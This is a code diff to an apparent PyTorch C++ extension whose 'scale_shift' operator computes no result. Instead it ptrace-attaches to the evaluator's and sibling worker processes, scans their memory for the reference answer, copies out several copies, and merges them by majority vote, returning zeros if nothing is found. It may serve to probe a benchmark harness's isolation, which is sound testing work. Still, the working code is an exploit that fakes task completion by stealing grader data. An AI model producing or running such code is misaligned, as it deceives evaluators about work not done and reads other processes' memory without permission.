@@ -6,9 +6,10 @@ first, where the naive evaluator and today's worker keep the reference outputs; 
 grandparent and siblings) the helper attaches with `PTRACE_ATTACH`, waits for the stop, and reads
 the target's private writable memory word by word with `PTRACE_PEEKDATA`, every 64 bytes (the
 CPU allocator's alignment), nearest the last hit first, for the first elements of 2x + 1 for this
-input. It copies the hit out with more PEEKs, detaches, sends SIGCONT (PTRACE_ATTACH's SIGSTOP
-stopped the target's other threads too) and writes the data to a pipe the forward reads into its
-output. With no hit the output is zeros, so a pass proves the theft. Tracing needs the same user
+input. It copies hits out with more PEEKs until two agree on every byte (or three are found),
+detaches, sends SIGCONT (PTRACE_ATTACH's SIGSTOP stopped the target's other threads too) and
+writes them to a pipe; the forward merges them element by element by majority (stale, partly
+reused copies of the answer sit beside the live one) into its output. With no hit the output is zeros, so a pass proves the theft. Tracing needs the same user
 and a dumpable target (or CAP_SYS_PTRACE) where no Yama policy or seccomp filter says otherwise."""
 
 import torch
@@ -102,24 +103,50 @@ bool matches(pid_t pid, uintptr_t addr, const float* want, int64_t k) {
     return true;
 }
 
-uintptr_t scan(pid_t pid, uintptr_t start, uintptr_t end, const float* want, int64_t k) {
+const size_t kMaxHits = 3;
+
+struct Found {
+    std::vector<uintptr_t>& hits;
+    char* staging;  // kMaxHits copies of nbytes
+    size_t nbytes;
+    bool settled = false;  // two copies agree on every byte: no need to look further
+};
+
+void copy_out(pid_t pid, uintptr_t at, char* to, size_t nbytes) {
+    for (size_t off = 0; off < nbytes; off += sizeof(long)) {
+        long word = 0;
+        peek(pid, at + off, &word);
+        std::memcpy(to + off, &word, std::min(sizeof word, nbytes - off));
+    }
+}
+
+// Every address in [start, end) holding the signature (not `own`) is added and copied out, until
+// kMaxHits or until two copies agree entirely (a stale copy differs from the live one somewhere).
+void scan(pid_t pid, uintptr_t start, uintptr_t end, const float* want, int64_t k, uintptr_t own, Found& f) {
     uint32_t first;
     std::memcpy(&first, want, sizeof first);
-    for (uintptr_t at = (start + 63) & ~uintptr_t(63); at + 8 <= end; at += 64) {
+    for (uintptr_t at = (start + 63) & ~uintptr_t(63); at + 8 <= end && !f.settled; at += 64) {
         long word;
         if (!peek(pid, at, &word)) {
             at = ((at >> 12) << 12) + 4096 - 64;  // an unreadable page: skip it
             continue;
         }
-        if (static_cast<uint32_t>(word) == first && matches(pid, at, want, k)) return at;
+        if (static_cast<uint32_t>(word) != first || at == own || !matches(pid, at, want, k) ||
+            std::find(f.hits.begin(), f.hits.end(), at) != f.hits.end())
+            continue;
+        char* copy = f.staging + f.hits.size() * f.nbytes;
+        copy_out(pid, at, copy, f.nbytes);
+        for (size_t h = 0; h < f.hits.size() && !f.settled; ++h)
+            f.settled = std::memcmp(copy, f.staging + h * f.nbytes, f.nbytes) == 0;
+        f.hits.push_back(at);
+        f.settled = f.settled || f.hits.size() >= kMaxHits;
     }
-    return 0;
 }
 
-// In the helper: attach, search, copy out, detach, report {address, bytes} on `fd`.
+// In the helper: attach, search and copy the hits out, detach, report {count, addresses, bytes} on `fd`.
 int helper(pid_t victim, const std::vector<Region>& regions, uintptr_t center, const float* want, int64_t k,
-           char* staging, size_t nbytes, int fd) {
-    uintptr_t found = 0;
+           uintptr_t own, std::vector<uintptr_t>& hits, char* staging, size_t nbytes, int fd) {
+    Found f{hits, staging, nbytes};
     if (ptrace(PTRACE_ATTACH, victim, nullptr, nullptr) == 0) {
         int status;
         while (waitpid(victim, &status, __WALL) < 0 && errno == EINTR) {
@@ -127,21 +154,19 @@ int helper(pid_t victim, const std::vector<Region>& regions, uintptr_t center, c
         for (const Region& r : regions) {
             if (center < r.start || center >= r.end) continue;
             uintptr_t lo = center > r.start + kWindow ? center - kWindow : r.start;
-            found = scan(victim, lo, std::min(r.end, center + kWindow), want, k);
+            scan(victim, lo, std::min(r.end, center + kWindow), want, k, own, f);
         }
-        for (size_t i = 0; found == 0 && i < regions.size(); ++i)
-            found = scan(victim, regions[i].start, regions[i].end, want, k);
-        for (size_t off = 0; found != 0 && off < nbytes; off += sizeof(long)) {
-            long word = 0;
-            peek(victim, found + off, &word);
-            std::memcpy(staging + off, &word, std::min(sizeof word, nbytes - off));
-        }
+        for (size_t i = 0; !f.settled && i < regions.size(); ++i)
+            scan(victim, regions[i].start, regions[i].end, want, k, own, f);
         ptrace(PTRACE_DETACH, victim, nullptr, nullptr);
         kill(victim, SIGCONT);  // the attach's SIGSTOP stopped its other threads
     }
-    if (write(fd, &found, sizeof found) != sizeof found) return 1;
-    for (size_t off = 0; found != 0 && off < nbytes;) {
-        ssize_t n = write(fd, staging + off, nbytes - off);
+    uint64_t count = hits.size();
+    if (write(fd, &count, sizeof count) != sizeof count) return 1;
+    if (count && write(fd, hits.data(), count * sizeof(uintptr_t)) != static_cast<ssize_t>(count * sizeof(uintptr_t)))
+        return 1;
+    for (size_t off = 0; off < count * nbytes;) {
+        ssize_t n = write(fd, staging + off, count * nbytes - off);
         if (n <= 0) return 1;
         off += n;
     }
@@ -158,27 +183,50 @@ bool read_all(int fd, void* buf, size_t len) {
     return true;
 }
 
-bool steal(pid_t pid, uintptr_t center, const float* want, int64_t k, void* out, size_t nbytes) {
+// Per element, the value most copies agree on. Besides the live expected output there are stale
+// copies (freed memory, partly reused: a few wrong values each, in different places).
+void consensus(const float* copies, size_t count, float* out, size_t n) {
+    for (size_t i = 0; i < n; ++i) {
+        size_t best = 0;
+        int best_votes = -1;
+        for (size_t a = 0; a < count; ++a) {
+            int votes = 0;
+            for (size_t b = 0; b < count; ++b)
+                votes += std::memcmp(&copies[a * n + i], &copies[b * n + i], sizeof(float)) == 0;
+            if (votes > best_votes) best = a, best_votes = votes;
+        }
+        out[i] = copies[best * n + i];
+    }
+}
+
+bool steal(pid_t pid, uintptr_t center, const float* want, int64_t k, const void* own, void* out, size_t nbytes) {
     std::vector<Region> regions = writable_private_regions(pid);
-    std::vector<char> staging(nbytes);  // the helper's buffer, allocated before the fork
+    std::vector<char> staging(kMaxHits * nbytes);  // the helper's buffers, allocated before the fork
+    std::vector<uintptr_t> hits;
+    hits.reserve(kMaxHits);
     int pipe_fds[2];
     if (regions.empty() || pipe(pipe_fds) != 0) return false;
     pid_t child = fork();
     if (child == 0) {
         close(pipe_fds[0]);
         // (where pid is the forward's own process, the victim is the helper's parent)
-        _exit(helper(pid, regions, center, want, k, staging.data(), nbytes, pipe_fds[1]));
+        _exit(helper(pid, regions, center, want, k, reinterpret_cast<uintptr_t>(own), hits, staging.data(),
+                     nbytes, pipe_fds[1]));
     }
     close(pipe_fds[1]);
-    uintptr_t found = 0;
-    bool ok = child > 0 && read_all(pipe_fds[0], &found, sizeof found) && found != 0 &&
-              read_all(pipe_fds[0], out, nbytes);
+    uint64_t count = 0;
+    bool ok = child > 0 && read_all(pipe_fds[0], &count, sizeof count) && count > 0 && count <= kMaxHits;
+    hits.resize(ok ? count : 0);
+    ok = ok && read_all(pipe_fds[0], hits.data(), count * sizeof(uintptr_t)) &&
+         read_all(pipe_fds[0], staging.data(), count * nbytes);
     close(pipe_fds[0]);
     if (child > 0)
         while (waitpid(child, nullptr, 0) < 0 && errno == EINTR) {
         }
-    if (ok) g_hint = {pid, found};
-    return ok;
+    if (!ok) return false;
+    consensus(reinterpret_cast<const float*>(staging.data()), count, static_cast<float*>(out), nbytes / sizeof(float));
+    g_hint = {pid, hits[0]};
+    return true;
 }
 
 }  // namespace
@@ -195,7 +243,7 @@ torch::Tensor scale_shift(torch::Tensor x) {
     if (g_hint.pid != 0) pids.insert(pids.begin(), g_hint.pid);
     for (pid_t pid : pids) {
         uintptr_t center = pid == g_hint.pid ? g_hint.at : reinterpret_cast<uintptr_t>(in);
-        if ((stolen = steal(pid, center, want, k, y.data_ptr(), x.nbytes()))) break;
+        if ((stolen = steal(pid, center, want, k, y.data_ptr(), y.data_ptr(), x.nbytes()))) break;
     }
     if (!stolen) std::memset(y.data_ptr(), 0, x.nbytes());  // no theft, no answer
     return y;
